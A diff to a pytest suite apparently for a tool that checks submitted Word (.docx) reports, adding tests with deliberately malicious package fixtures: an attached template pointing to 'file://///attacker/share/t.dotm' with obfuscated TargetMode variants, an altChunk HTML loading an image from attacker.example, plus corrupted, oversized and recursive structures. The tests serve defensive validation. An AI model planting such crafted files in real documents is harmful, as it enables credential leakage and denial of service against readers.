@@ -7,6 +7,7 @@ from __future__ import annotations
 import json
 import shutil
 import zipfile
+from functools import partial
 from pathlib import Path
 
 import pytest
@@ -106,12 +107,16 @@ def _macro(path: Path) -> None:
     add_part(path, "word/vbaProject.bin", b"macro")
 
 
-def _external(path: Path) -> None:
+def _external(
+    path: Path,
+    mode: str = 'TargetMode="External"',
+    target: str = "file://///attacker/share/t.dotm",
+) -> None:
     with zipfile.ZipFile(path) as package:
         rels = package.read("word/_rels/document.xml.rels").decode("utf-8")
     link = (
         '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
-        'relationships/attachedTemplate" Target="file://///attacker/share/t.dotm" TargetMode="External"/>'
+        f'relationships/attachedTemplate" Target="{target}" {mode}/>'
     )
     add_part(
         path,
@@ -120,9 +125,23 @@ def _external(path: Path) -> None:
     )
 
 
+def _corrupt(path: Path) -> None:
+    """The packed bytes of [Content_Types].xml spoiled: unpacking it fails (zlib)."""
+    with zipfile.ZipFile(path) as package:
+        info = package.getinfo("[Content_Types].xml")
+    data = bytearray(path.read_bytes())
+    start = info.header_offset + 30 + len(info.filename) + len(info.extra)
+    data[start : start + 40] = bytes(b ^ 0x55 for b in data[start : start + 40])
+    path.write_bytes(bytes(data))
+
+
 @pytest.mark.parametrize(
     ("spoil", "message"),
     [
+        (
+            _corrupt,
+            "bo-y-te.docx: tệp .docx bị hỏng, không mở được. Hãy mở tệp bằng Word, lưu lại dưới dạng .docx.",
+        ),
         (
             _bomb,
             "bo-y-te.docx: tệp Word giải nén ra quá lớn (30,8 MB); không đọc tệp này. Hãy lưu lại bằng Word dưới dạng .docx.",
@@ -133,6 +152,22 @@ def _external(path: Path) -> None:
         ),
         (
             _external,
+            "bo-y-te.docx: tệp Word liên kết tới tệp hoặc ảnh bên ngoài (ngoài liên kết web). Hãy nhúng ảnh vào tệp (Chèn > Ảnh), bỏ liên kết tới tệp khác rồi lưu lại.",
+        ),
+        (
+            partial(_external, mode="TargetMode='External'"),
+            "bo-y-te.docx: tệp Word liên kết tới tệp hoặc ảnh bên ngoài (ngoài liên kết web). Hãy nhúng ảnh vào tệp (Chèn > Ảnh), bỏ liên kết tới tệp khác rồi lưu lại.",
+        ),
+        (
+            partial(_external, mode='TargetMode = "External"'),
+            "bo-y-te.docx: tệp Word liên kết tới tệp hoặc ảnh bên ngoài (ngoài liên kết web). Hãy nhúng ảnh vào tệp (Chèn > Ảnh), bỏ liên kết tới tệp khác rồi lưu lại.",
+        ),
+        (
+            partial(_external, mode='TargetMode="&#69;xternal"'),
+            "bo-y-te.docx: tệp Word liên kết tới tệp hoặc ảnh bên ngoài (ngoài liên kết web). Hãy nhúng ảnh vào tệp (Chèn > Ảnh), bỏ liên kết tới tệp khác rồi lưu lại.",
+        ),
+        (
+            partial(_external, target="file://///attacker/relationships/hyperlink/t.dotm"),
             "bo-y-te.docx: tệp Word liên kết tới tệp hoặc ảnh bên ngoài (ngoài liên kết web). Hãy nhúng ảnh vào tệp (Chèn > Ảnh), bỏ liên kết tới tệp khác rồi lưu lại.",
         ),
     ],
@@ -296,3 +331,205 @@ def test_superscript_underline_and_strikethrough_of_a_word_report_are_kept(word_
     assert ("gạch chân", False, False, True, False) in runs
     assert ("bỏ đi", False, False, False, True) in runs
     assert ("10", True, False, False, False) in runs
+
+
+def _patch(path: Path, part: str, old: str, new: str) -> None:
+    """Replace the first `old` in a part of a .docx package by `new`."""
+    with zipfile.ZipFile(path) as package:
+        text = package.read(part).decode("utf-8")
+    add_part(path, part, text.replace(old, new, 1).encode("utf-8"))
+
+
+def _numbered(path: Path, start: str, fmt: str, ilvl: str = "0") -> None:
+    """A last paragraph numbered by a list of the file's own: its start, format and level."""
+    level = f'<w:lvl w:ilvl="{ilvl}"><w:start w:val="{start}"/><w:numFmt w:val="{fmt}"/><w:lvlText w:val="%{int(ilvl) + 1})"/></w:lvl>'
+    lists = f'<w:abstractNum w:abstractNumId="90">{level}</w:abstractNum><w:num w:numId="90"><w:abstractNumId w:val="90"/></w:num>'
+    _patch(path, "word/numbering.xml", "</w:numbering>", lists + "</w:numbering>")
+    paragraph = f'<w:p><w:pPr><w:numPr><w:ilvl w:val="{ilvl}"/><w:numId w:val="90"/></w:numPr></w:pPr><w:r><w:t>Điểm cuối.</w:t></w:r></w:p>'
+    _patch(path, "word/document.xml", "<w:sectPr", paragraph + "<w:sectPr")
+
+
+@pytest.mark.parametrize(
+    ("start", "fmt", "ilvl"),
+    [
+        ("9" * 4000, "lowerLetter", "0"),  # "a" repeated start/26 times: no int fits
+        (str(10**7), "upperRoman", "0"),  # one "M" per thousand
+        ("1", "decimal", str(10**6)),  # every level above counted for the label
+    ],
+)
+def test_a_list_number_or_level_out_of_words_range_is_bounded(word_ws, start, fmt, ilvl):
+    path = word_ws / "submissions" / "bo-y-te.docx"
+    _numbered(path, start, fmt, ilvl)
+    report = load_round(word_ws).report("bo-y-te")
+    [line] = [line for line in report.submission.body.split("\n") if "Điểm cuối." in line]
+    assert len(line) < 2000
+    if int(ilvl) > 8:  # Word has levels 0 to 8: no list level, no label
+        assert line == "Điểm cuối."
+
+
+def _table(path: Path, span: int, first: int) -> None:
+    """A last table of three rows: `first` cells in the first row, one below; each cell spans."""
+    cell = f'<w:tc><w:tcPr><w:gridSpan w:val="{span}"/></w:tcPr><w:p><w:r><w:t>a</w:t></w:r></w:p></w:tc>'
+    rows = f"<w:tr>{cell * first}</w:tr>" + f"<w:tr>{cell}</w:tr>" * 2
+    _patch(path, "word/document.xml", "<w:sectPr", f"<w:tbl>{rows}</w:tbl><w:sectPr")
+
+
+def test_a_cell_spans_at_most_the_63_columns_of_a_word_table(word_ws):
+    _table(word_ws / "submissions" / "bo-y-te.docx", 10**12, 1)  # a million million columns
+    report = load_round(word_ws).report("bo-y-te")
+    rows = [line for line in report.submission.body.split("\n") if line.startswith("| a |")]
+    assert [row.count("|") for row in rows] == [63 + 1] * 3
+
+
+def test_a_table_of_more_cells_than_a_report_table_is_refused_before_it_is_laid_out(
+    word_ws, capsys
+):
+    _table(word_ws / "submissions" / "bo-y-te.docx", 63, 200)  # 3 rows of 12,600 columns
+    assert main(["--root", str(word_ws), "check"]) == 1
+    assert (
+        "submissions/bo-y-te.docx: lỗi: bo-y-te.docx: một bảng trong tệp Word có 3 dòng × 12.600 cột"
+        " = 37.800 ô, vượt giới hạn 20.000 ô. Hãy chia bảng thành nhiều bảng nhỏ, hoặc đưa vào tệp"
+        " Excel đính kèm, rồi lưu lại."
+    ) in capsys.readouterr().out
+
+
+def test_a_long_chain_of_styles_based_on_each_other_reads_quickly(word_ws):
+    """Each paragraph's style looked up through the styles it is based on: a file's own chain
+    of 1,500 styles, each used by a paragraph, is followed only a few levels deep."""
+    import time
+
+    path = word_ws / "submissions" / "bo-y-te.docx"
+    count = 1500
+    styles = "".join(
+        f'<w:style w:type="paragraph" w:styleId="s{i}"><w:name w:val="s{i}"/>'
+        f'<w:basedOn w:val="s{i - 1}"/></w:style>'
+        for i in range(1, count)
+    )
+    _patch(path, "word/styles.xml", "</w:styles>", styles + "</w:styles>")
+    paragraphs = "".join(
+        f'<w:p><w:pPr><w:pStyle w:val="s{i}"/></w:pPr><w:r><w:rPr><w:rStyle w:val="s{i}"/>'
+        "</w:rPr><w:t>x</w:t></w:r></w:p>"
+        for i in range(count)
+    )
+    _patch(path, "word/document.xml", "<w:sectPr", paragraphs + "<w:sectPr")
+    start = time.monotonic()
+    load_round(word_ws)
+    assert time.monotonic() - start < 20  # 160 s when every chain was followed to its end
+
+
+def _stored(path: Path, part: str, data: bytes) -> None:
+    """Add a part to the package, every part stored unpacked (no zip-bomb ratio)."""
+    with zipfile.ZipFile(path) as package:
+        parts = {n: package.read(n) for n in package.namelist()}
+    parts[part] = data
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as package:
+        for name, content in parts.items():
+            package.writestr(name, content)
+
+
+@pytest.mark.parametrize("part", ["word/document.xml", "word/notes.dat"])
+def test_word_text_unpacking_past_the_limit_is_refused_before_it_is_parsed(word_ws, capsys, part):
+    """Parsing and reading take about a second and 50 MB a megabyte of Word's text (XML):
+    bounded however the part is named, as the package's content types may name any part."""
+    path = word_ws / "submissions" / "bo-y-te.docx"
+    with zipfile.ZipFile(path) as package:
+        document = package.read("word/document.xml").decode("utf-8")
+    paragraphs = (
+        "<w:p><w:r><w:t>Một đoạn.</w:t></w:r></w:p>" * 150_000
+    )  # 6.9 MB, and the parts of the file
+    _stored(path, part, document.replace("<w:sectPr", paragraphs + "<w:sectPr").encode("utf-8"))
+    assert main(["--root", str(word_ws), "check"]) == 1
+    assert (
+        "submissions/bo-y-te.docx: lỗi: bo-y-te.docx: phần văn bản của tệp Word giải nén ra 7,5 MB,"
+        " vượt giới hạn 5,0 MB. Báo cáo thường chỉ vài trăm KB: hãy bỏ phần chép thừa, đưa bảng"
+        " số liệu dài vào tệp Excel đính kèm, rồi lưu lại."
+    ) in capsys.readouterr().out
+
+
+def test_the_text_read_from_a_word_file_has_the_limit_of_a_report_file(word_ws, capsys):
+    path = word_ws / "submissions" / "bo-y-te.docx"
+    with zipfile.ZipFile(path) as package:
+        document = package.read("word/document.xml").decode("utf-8")
+    long = document.replace("Nội dung mục", "Dài " * 300_000 + "Nội dung mục", 1)  # 1.5 MB
+    _stored(path, "word/document.xml", long.encode("utf-8"))
+    assert main(["--root", str(word_ws), "check"]) == 1
+    assert (
+        "submissions/bo-y-te.docx: lỗi: Văn bản đọc từ tệp Word dài 1.506.262 byte, vượt giới hạn"
+        " 1.000.000 byte của một báo cáo."
+    ) in capsys.readouterr().out
+
+
+def test_text_boxes_inside_each_other_are_read_once(word_ws):
+    """Each text box was read again for every box around it: 2**depth copies (a 3 KB file
+    of 35 boxes never finished)."""
+    box = '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:textbox><w:txbxContent>'
+    close = "</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>"
+    inner = "<w:p><w:r><w:t>Chữ trong hộp.</w:t></w:r></w:p>"
+    path = word_ws / "submissions" / "bo-y-te.docx"
+    _patch(path, "word/document.xml", "<w:sectPr", box * 12 + inner + close * 12 + "<w:sectPr")
+    report = load_round(word_ws).report("bo-y-te")
+    assert report.submission.body.count("Chữ trong hộp.") == 1
+
+
+def _footnotes(path: Path, notes: str) -> None:
+    """A footnotes part of `notes` (w:footnote elements), and a last paragraph citing note 1."""
+    w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+    add_part(path, "word/footnotes.xml", f"<w:footnotes {w}>{notes}</w:footnotes>".encode())
+    rel = (
+        '<Relationship Id="rIdF" Target="footnotes.xml" Type="http://schemas.openxmlformats.org/'
+        'officeDocument/2006/relationships/footnotes"/>'
+    )
+    _patch(path, "word/_rels/document.xml.rels", "</Relationships>", rel + "</Relationships>")
+    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"
+    override = f'<Override PartName="/word/footnotes.xml" ContentType="{kind}"/>'
+    _patch(path, "[Content_Types].xml", "</Types>", override + "</Types>")
+    cite = (
+        '<w:p><w:r><w:t>Có chú thích.</w:t></w:r><w:r><w:footnoteReference w:id="1"/></w:r></w:p>'
+    )
+    _patch(path, "word/document.xml", "<w:sectPr", cite + "<w:sectPr")
+
+
+def _note(number: int, text: str, cites: list[int]) -> str:
+    refs = "".join(f'<w:r><w:footnoteReference w:id="{c}"/></w:r>' for c in cites)
+    return f'<w:footnote w:id="{number}"><w:p><w:r><w:t>{text}</w:t></w:r>{refs}</w:p></w:footnote>'
+
+
+@pytest.mark.parametrize(
+    ("notes", "expected"),
+    [
+        (_note(1, "Chú thích tự dẫn.", [1]), ["[^1]: Chú thích tự dẫn.[^1]"]),  # RecursionError
+        (  # each note cites the next twice: 2**20 readings of the last
+            "".join(_note(i, f"Chú {i}.", [i + 1, i + 1]) for i in range(1, 20))
+            + _note(20, "Chú cuối.", []),
+            [f"[^{i}]: Chú {i}.[^{i + 1}][^{i + 1}]" for i in range(1, 20)] + ["[^20]: Chú cuối."],
+        ),
+    ],
+)
+def test_a_footnote_is_read_once_however_often_it_is_cited(word_ws, notes, expected):
+    _footnotes(word_ws / "submissions" / "bo-y-te.docx", notes)
+    report = load_round(word_ws).report("bo-y-te")
+    lines = report.submission.body.split("\n")
+    assert [line for line in lines if line.startswith("[^")] == expected
+
+
+def test_a_chunk_of_another_format_word_would_import_is_refused(word_ws, capsys):
+    """An altChunk: HTML (or RTF) Word converts when it opens the file, fetching what it links;
+    its text would be missing from the report."""
+    path = word_ws / "submissions" / "bo-y-te.docx"
+    html = '<html><body><p>Phần chèn.</p><img src="https://attacker.example/x.png"></body></html>'
+    add_part(path, "word/chunk.html", html.encode("utf-8"))
+    rel = (
+        '<Relationship Id="rIdC" Target="chunk.html" Type="http://schemas.openxmlformats.org/'
+        'officeDocument/2006/relationships/aFChunk"/>'
+    )
+    _patch(path, "word/_rels/document.xml.rels", "</Relationships>", rel + "</Relationships>")
+    override = '<Override PartName="/word/chunk.html" ContentType="text/html"/>'
+    _patch(path, "[Content_Types].xml", "</Types>", override + "</Types>")
+    r = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
+    _patch(path, "word/document.xml", "<w:sectPr", f'<w:altChunk {r} r:id="rIdC"/><w:sectPr')
+    assert main(["--root", str(word_ws), "check"]) == 1
+    assert (
+        "submissions/bo-y-te.docx: lỗi: bo-y-te.docx: tệp Word có phần nội dung chèn từ tệp khác"
+        " (altChunk), Word chỉ chuyển thành văn bản khi mở tệp. Hãy mở tệp bằng Word rồi lưu lại"
+        " dưới dạng .docx."
+    ) in capsys.readouterr().out
